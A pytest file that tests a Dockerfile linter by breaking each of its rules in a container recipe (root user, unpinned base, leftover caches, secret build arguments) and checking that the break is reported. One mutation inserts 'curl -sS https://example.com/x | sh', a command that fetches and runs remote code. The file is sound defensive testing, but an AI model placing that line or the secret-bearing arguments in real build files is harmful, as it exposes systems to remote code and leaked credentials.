"""The recipe keeps the rules, and each rule can be broken."""

from __future__ import annotations

from pathlib import Path

import pytest

from launcher.images.archives import DOCKERFILE
from tests.containers.lint import RULES, findings

RECIPE = (Path(__file__).parents[2] / "containers" / DOCKERFILE).read_text(encoding="utf-8")

BROKEN = [
    ("base_by_argument", "FROM ${BASE} AS build", "FROM python:3.12 AS build"),
    ("base_by_argument", "ARG BASE=docker.io/library/python:3.12-slim-bookworm", "ARG BASE=python:latest"),
    ("base_by_argument", "ARG BASE=docker.io/library/python:3.12-slim-bookworm", "ARG BASE"),
    ("apt_leaves_nothing", "apt-get update", "true"),
    ("apt_leaves_nothing", " --no-install-recommends", ""),
    ("apt_leaves_nothing", " /var/lib/apt/lists/*", ""),
    ("apt_leaves_nothing", " /var/cache/apt/*", ""),
    ("apt_leaves_nothing", " --yes", ""),
    ("pip_keeps_nothing", "PIP_NO_CACHE_DIR=1", "PIP_OTHER=1"),
    ("exec_form", '["python", "-m", "launch_train.node"]', "python -m launch_train.node"),
    ("no_root", "USER 1000:1000", ""),
    ("no_root", "USER 1000:1000", "USER root"),
    ("no_root", "USER 1000:1000", "USER 0"),
    ("no_root", "USER 1000:1000", "USER launch"),
    ("copy_is_enough", "COPY launch_train /opt", "ADD train /opt"),
    ("nothing_unseen_runs", "&& /opt/venv/bin/pip check", "&& curl -sS https://example.com/x | sh"),
    ("nothing_unseen_runs", "&& /opt/venv/bin/pip check", "&& sudo true"),
    ("folders_are_absolute", "WORKDIR /workspace", "WORKDIR workspace"),
    ("no_secrets", "ARG TORCH\n", "ARG PIP_TOKEN\n"),
    ("no_secrets", "ARG TORCH=2.13.0", "ARG DB_PASSWORD=x"),
    ("no_secrets", "PYTHONUNBUFFERED=1", "API_KEY=1"),
    (
        "code_comes_last",
        "COPY launch_train /opt/launch/launch_train\n",
        "COPY --chown=1000:1000 code /workspace\nRUN true\n",
    ),
    ("code_comes_last", "COPY torch ./torch", "COPY torch ./torch\nCOPY code ./code"),
    ("code_comes_last", "COPY --chown=1000:1000 code /workspace", "COPY code /workspace\nRUN true"),
    (
        "only_the_environment_leaves_the_build",
        "COPY launch_train /opt",
        "COPY torch /opt/torch\nCOPY launch_train /opt",
    ),
    ("only_the_environment_leaves_the_build", "COPY launch_train /opt", "COPY . /opt/all\nCOPY launch_train /opt"),
    ("stages_are_known", "--from=build", "--from=golang"),
]


def test_the_recipe_keeps_the_rules() -> None:
    assert findings(RECIPE) == []


@pytest.mark.parametrize(("rule", "right", "wrong"), BROKEN)
def test_a_broken_rule_is_reported(rule: str, right: str, wrong: str) -> None:
    assert right in RECIPE
    assert rule in {found.partition(":")[0] for found in findings(RECIPE.replace(right, wrong))}


def test_each_rule_is_broken_above() -> None:
    assert {rule for rule, _, _ in BROKEN} == {rule.__name__ for rule in RULES}
